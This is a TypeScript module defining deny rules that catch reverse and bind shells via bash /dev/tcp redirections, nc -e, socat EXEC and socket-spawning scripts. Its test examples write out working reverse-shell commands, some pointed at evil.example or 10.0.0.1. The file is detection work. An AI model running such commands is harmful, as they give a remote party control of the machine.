import type { PackRule } from './rule.js'
import { placesOf } from './paths.js'

const HERE = /^\/dev\/(?:tcp|udp)\/(?:localhost|127\.[\d.]+|::1|0\.0\.0\.0)\//
const SHELL = /(?:^|[/=\s])(?:ba|z|da|k|c|tc|fi)?sh(?:$|[\s,"'])|cmd\.exe|powershell/i
const CODE =
  /socket[\s\S]{0,400}(?:dup2|subprocess|pty\.spawn|exec|spawn|\/bin\/(?:ba)?sh)|(?:exec|spawn)[\s\S]{0,200}socket|TCPSocket|fsockopen[\s\S]{0,200}(?:exec|sh)/i

/** Shells that someone else holds. */
export const NETWORK: readonly PackRule[] = [
  {
    name: 'network.device',
    title: "bash's network redirections to another machine",
    severity: 'critical',
    level: 'minimal',
    action: 'deny',
    suggest: 'use curl for what is to be fetched or sent',
    script: (script) => {
      const found = placesOf(script).find(
        ({ path, use }) => /^\/dev\/(tcp|udp)\//.test(path) && (!HERE.test(path) || use.program === '<>'),
      )
      return found === undefined
        ? undefined
        : `it would open ${found.use.text}, a way for a shell to be held from elsewhere`
    },
    examples: {
      deny: [
        'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
        'exec 5<>/dev/tcp/evil.example/80',
        'cat x > /dev/udp/1.2.3.4/53',
      ],
      allow: ['echo > /dev/tcp/localhost/5432', 'curl http://10.0.0.1'],
    },
  },
  {
    name: 'network.shell',
    title: 'a shell bound to a socket (nc -e, socat EXEC, code that does it)',
    severity: 'critical',
    level: 'minimal',
    action: 'deny',
    suggest: 'work in the shell you have; nobody else needs one here',
    programs: [
      ...['nc', 'ncat', 'netcat', 'socat', 'python', 'python2', 'python3', 'perl', 'ruby', 'php', 'node', 'openssl'],
      ...['telnet', 'lua', 'awk', 'gawk', 'nc.openbsd', 'nc.traditional'],
    ],
    command: (one) => {
      const { program, words } = one
      if (/^nc|^netcat/.test(program))
        return words.some((word) => /^-[a-zA-Z]*[ec]$|^--(sh-|lua-)?exec/.test(word)) &&
          words.some((word) => SHELL.test(word)) &&
          words.length > 2
          ? `${program} would give a shell to whoever is at the other end`
          : undefined
      if (program === 'socat')
        return words.some((word) => /^(exec|system|shell):.*sh\b|^shell\b/i.test(word))
          ? 'socat would start a shell for whoever is at the other end'
          : undefined
      if (program.endsWith('awk'))
        return words.some((word) => word.includes('/inet/')) ? `${program} would talk to another machine` : undefined
      return words.some((word) => word.length > 20 && CODE.test(word)) || CODE.test(one.stdin)
        ? `${program} would bind a shell to a socket`
        : undefined
    },
    examples: {
      deny: [
        'nc -e /bin/sh 10.0.0.1 4444',
        'socat TCP-LISTEN:4444 EXEC:/bin/sh',
        'ncat --exec /bin/bash -l 1',
        "ncat -l --sh-exec='sh -i' 1",
      ],
      allow: [
        'nc -z localhost 5432',
        'socat - TCP:localhost:80',
        'python3 -c "import socket; print(socket.gethostname())"',
      ],
    },
  },
]
